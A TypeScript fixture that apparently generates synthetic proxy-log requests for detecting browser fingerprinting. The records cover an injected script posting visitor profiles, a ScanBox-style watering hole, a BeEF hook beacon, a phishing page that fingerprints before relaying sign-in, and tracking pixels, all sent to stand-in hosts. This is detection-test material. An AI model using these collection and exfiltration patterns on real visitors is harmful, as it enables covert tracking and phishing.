/** Pages that gather what their visitors run. */
import * as agents from "../agents.ts";
import { ask, base64, base64url, collector, often, query, type Subject } from "./web.ts";

const { chrome, edge, firefox, safari } = agents;
const json = "application/json";
const society = "https://www.equine-vets-society.example/events/2027";
const profile = {
  ua: chrome,
  plat: "Win32",
  lang: "fr-CA",
  langs: ["fr-CA", "en"],
  tz: "America/Toronto",
  scr: "1920x1080x24",
  mem: 8,
  hc: 8,
  gl: "ANGLE (Intel, Intel(R) Iris(R) Xe Graphics)",
  cv: "c0b1f7aa92",
  au: "124.0434",
  plug: ["PDF Viewer", "Chrome PDF Viewer"],
  wd: false,
};
const modules = [
  "a=view&ua=1",
  "m=software&l=Office16,Acrobat26,Java8,ESET",
  "m=plug&l=pdf,native,widevine",
  "m=ipl&l=172.20.4.61",
  "m=scr&w=1680&h=1050&d=24",
];
const asked = ["ua", "platform", "screen", "timezone", "fonts", "webgl", "cores", "plugins"];
const told: Readonly<Record<string, string>> = {
  ua: edge,
  platform: "Win32",
  screen: "2560x1440",
  timezone: "Europe/Vienna",
  fonts: "Segoe UI|Calibri|Aptos",
  webgl: "Intel(R) UHD Graphics 770",
  cores: "12",
  plugins: "PDF Viewer|Chrome PDF Viewer",
};

export const pageCollectors: readonly Subject[] = [
  collector(
    "lab",
    "cdn-vetlib.example",
    "proxy-page",
    "a script slipped into a vets' society's page posts a full profile of each visitor's browser",
    often(["0 13:20:10", "0 14:41:31", "1 15:07:52"], (timeMs, turn) => {
      const client = ["172.20.4.12", "172.20.4.33", "172.20.4.58"][turn] ?? "";
      return [
        ask(timeMs, client, chrome, society, { received: 38_200 }),
        ask(timeMs + 700, client, chrome, "https://cdn-vetlib.example/jquery.ui.min.js", {
          referer: society,
          received: 91_002,
          type: "application/javascript",
        }),
        ask(
          timeMs + 1900,
          client,
          chrome,
          `https://cdn-vetlib.example/v1/p?d=${encodeURIComponent(base64(profile))}`,
          { referer: society, received: 2, type: json },
        ),
      ];
    }),
  ),
  collector(
    "lab",
    "lab-accreditation.example",
    "proxy-page",
    "a watering hole of the ScanBox kind: module after module tells software, plug-ins, own address and screen",
    often(["0 15:02:40", "1 14:31:05"], (timeMs) =>
      modules.map((module, turn) =>
        ask(
          timeMs + turn * 1300,
          "172.20.4.61",
          firefox,
          `http://lab-accreditation.example/i/c.php?id=7f21&${module}`,
          { received: 12, referer: "http://lab-accreditation.example/iso17025" },
        ),
      ),
    ),
  ),
  collector(
    "lab",
    "sync-widgets.example",
    "proxy-page",
    "a page hooked by BeEF: the browser asks every few seconds and answers with what it is",
    [
      ask("1 16:12:01", "172.20.4.27", chrome, "http://forum-aquaculture.example/t/881", {
        received: 20_110,
      }),
      ask("1 16:12:02", "172.20.4.27", chrome, "http://sync-widgets.example:3000/hook.js", {
        received: 512_800,
        type: "text/javascript",
        referer: "http://forum-aquaculture.example/t/881",
      }),
      ...Array.from({ length: 22 }, (_, turn) =>
        ask(
          Date.UTC(2026, 10, 26, 16, 12, 4) + turn * 5000,
          "172.20.4.27",
          chrome,
          turn < 4
            ? `http://sync-widgets.example:3000/dh?bh=Zb1kqX0${turn}&sid=${turn}&ob=${encodeURIComponent(base64({ "browser.name": "C", "browser.version": "158", "host.os.name": "Windows", "hardware.cpu.cores": 8, "browser.capabilities.webgl": "Yes", "browser.window.size.width": 1536 + turn }))}`
            : `http://sync-widgets.example:3000/dh?bh=Zb1kqX0${turn}&sid=${turn}`,
          { received: 160, type: "text/javascript", referer: "http://forum-aquaculture.example/t/881" },
        ),
      ),
    ],
  ),
  collector(
    "cloud",
    "skill-screening.example",
    "proxy-page",
    "a recruiter's test of skills gathers graphics, own addresses, extensions and protection before the first question",
    often(["0 18:10:22"], (timeMs) => [
      ask(timeMs, "10.60.8.14", safari, "https://skill-screening.example/t/9Kq2", { received: 14_020 }),
      ask(
        timeMs + 2400,
        "10.60.8.14",
        safari,
        `https://skill-screening.example/api/env?${query({ os: "macOS 27.1", br: "Safari 27.1", gpu: "Apple M3", lan: "192.168.1.23", ext: "1Password,Grammarly", edr: "unknown", scr: "1728x1117@2", tz: "America/Montreal" })}`,
        { method: "POST", referer: "https://skill-screening.example/t/9Kq2", type: json },
      ),
    ]),
  ),
  collector(
    "cloud",
    "measure-browser.example",
    "proxy-page",
    "a test of speed tells one property of the browser with each picture, eight in a row",
    often(["0 11:30:44", "1 09:20:18"], (timeMs, turn) => {
      const client = turn === 0 ? "10.60.8.21" : "10.60.8.22";
      return asked.map((name, step) =>
        ask(
          timeMs + step * 850,
          client,
          edge,
          `https://measure-browser.example/px/${name}.gif?s=71c${turn}&v=${encodeURIComponent(told[name] ?? "")}`,
          { received: 43, type: "image/gif", referer: "https://measure-browser.example/" },
        ),
      );
    }),
  ),
  collector(
    "cloud",
    "go-offer-track.example",
    "proxy-page",
    "a switch of advertisements hands on system, browser, resolution and graphics before it picks the false download",
    often(["0 20:41:12", "1 21:03:33"], (timeMs, turn) => {
      const client = turn === 0 ? "10.60.8.9" : "10.60.8.31";
      return [
        ask(
          timeMs,
          client,
          chrome,
          `https://go-offer-track.example/click?key=a81f&z=771&os=Windows+11&br=Chrome+158`,
          { status: 302, received: 0, referer: "https://free-recipes-daily.example/" },
        ),
        ask(
          timeMs + 800,
          client,
          chrome,
          `https://go-offer-track.example/chk?${query({ w: 1920, h: 1080, dpr: 1, gl: "ANGLE (NVIDIA GeForce RTX 3050)", tz: -60, pl: 5, np: "Win32", hc: 16, wd: 0, ntf: "denied" })}`,
          { method: "POST", received: 210, type: json },
        ),
      ];
    }),
  ),
  collector(
    "cloud",
    "docs-preview-share.example",
    "proxy-page",
    "a false sign-in takes a print of the browser in a token before it relays to the real one",
    often(["1 10:12:40"], (timeMs) => [
      ask(timeMs, "10.60.8.26", edge, "https://docs-preview-share.example/d/agreement-2027", {
        received: 9902,
      }),
      ask(
        timeMs + 1500,
        "10.60.8.26",
        edge,
        `https://docs-preview-share.example/v?t=${base64url({ ua: edge, sw: 2560, sh: 1440, cd: 24, tz: "Europe/Warsaw", lg: "pl-PL", vendor: "Google Inc.", rend: "Intel(R) UHD", touch: 0, hl: 0, ck: true })}`,
        { received: 120, type: json },
      ),
      ask(
        timeMs + 9000,
        "10.60.8.26",
        edge,
        "https://docs-preview-share.example/common/oauth2/v2.0/authorize",
        { method: "POST", received: 20_110 },
      ),
    ]),
  ),
  collector(
    "lab",
    "px-newsletterstat.example",
    "proxy-page",
    "a picture in mails that asks, by its style sheet, which fonts, width and darkness the reader has",
    often(["0 08:20:30", "0 08:44:09", "0 09:10:55", "1 08:05:05"], (timeMs, turn) =>
      ["w-1920", "dark-0", "font-aptos", "font-segoe", "dpr-2"]
        .slice(0, 3 + (turn % 3))
        .map((name, step) =>
          ask(
            timeMs + step * 90,
            `172.20.4.${40 + turn}`,
            agents.outlook,
            `http://px-newsletterstat.example/c/${90_311 + turn}/${name}.png`,
            { received: 68, type: "image/png" },
          ),
        ),
    ),
  ),
];
